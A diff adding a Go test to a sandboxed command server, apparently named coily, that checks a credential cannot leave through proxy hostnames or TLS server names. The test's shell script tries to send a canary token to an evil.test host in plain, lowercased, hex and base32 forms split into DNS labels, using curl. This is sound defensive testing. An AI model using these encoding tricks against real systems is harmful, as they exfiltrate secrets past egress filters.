@@ -13,8 +13,11 @@ import (
 	"strings"
 	"sync/atomic"
 	"testing"
+	"time"
 
 	"coily.dev/coily/audit"
+	"coily.dev/coily/internal/canary"
+	"coily.dev/coily/scrub"
 )
 
 // egressPolicy writes a policy whose curl rule reaches the network only
@@ -199,5 +202,61 @@ commands:
 				t.Errorf("%s (%s): %+v", target, c.class, r)
 			}
 		}
+	}
+}
+
+// A command holding a credential cannot carry it out of the server in the
+// names it asks its proxy for (a host, a TLS server name): not as is, with
+// its case changed, split into DNS labels, in hex or base32. The exec's
+// answer, the server's log and the audit log name such a host only
+// redacted.
+func TestCLIExecEgressNamesCarryNoCredential(t *testing.T) {
+	requireBwrap(t)
+	for _, tool := range []string{"curl", "base32", "od"} {
+		_, err := exec.LookPath(tool)
+		requireComponent(t, err == nil, tool)
+	}
+	dir := shortDir(t)
+	token := "ghp_Canary" + strings.ToUpper(strconv.FormatInt(time.Now().UnixNano(), 36)) + "xyzQ"
+	creds := filepath.Join(dir, "credentials")
+	if err := os.WriteFile(creds, []byte("canary="+token+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	pol := filepath.Join(dir, "policy.yaml")
+	if err := os.WriteFile(pol, []byte(`version: 1
+roles: {operator: {permissions: [exec, lockout, unlock, status], commands: [sh]}}
+commands:
+  - name: sh
+    binary: /bin/sh
+    args: ["**"]
+    flags: any
+    network: proxied
+    credentials: {TOKEN: "file:canary"}
+    egress: {allow: ["allowed.test:443"]}
+`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	p := startServe(t, dir, pol, "--credentials-file", creds)
+	// Each name goes out as a CONNECT and as the TLS server name of a
+	// tunnel to the allowed host.
+	script := `lower=$(printf %s "$TOKEN" | tr A-Z a-z)
+hex=$(printf %s "$TOKEN" | od -An -tx1 | tr -d ' \n')
+b32=$(printf %s "$TOKEN" | base32 | tr -d '=\n' | tr A-Z a-z)
+cut1() { printf %s "$1" | cut -c1-30; }
+cut2() { printf %s "$1" | cut -c31-; }
+for h in "$TOKEN.evil.test" "$lower.evil.test" "$(cut1 "$hex").$(cut2 "$hex").evil.test" "$(cut1 "$b32").$(cut2 "$b32").evil.test" \
+  "$(cut1 "$TOKEN")-$(cut2 "$TOKEN").evil.test"; do
+  curl -sS -o /dev/null "https://$h/" 2>&1
+  curl -sS -o /dev/null --connect-to "$h:443:allowed.test:443" "https://$h/" 2>&1
+done
+true`
+	r := p.run(t, "exec", "--", "/bin/sh", "-c", script)
+	c := canary.New(t)
+	c.AddString("TOKEN", token)
+	c.CheckText("the exec's answer", r.stdout, r.stderr)
+	c.CheckText("the server's log", p.log.String())
+	c.CheckText("the audit log", readAudit(t, dir))
+	if !strings.Contains(r.stderr, "coily: egress refused: ") || !strings.Contains(r.stderr, "[REDACTED:TOKEN]") {
+		t.Errorf("the refusals are not in the answer, redacted:\n%s", scrub.NewSet([]scrub.Secret{{Name: "TOKEN", Value: token}}).RedactText(r.stderr))
 	}
 }
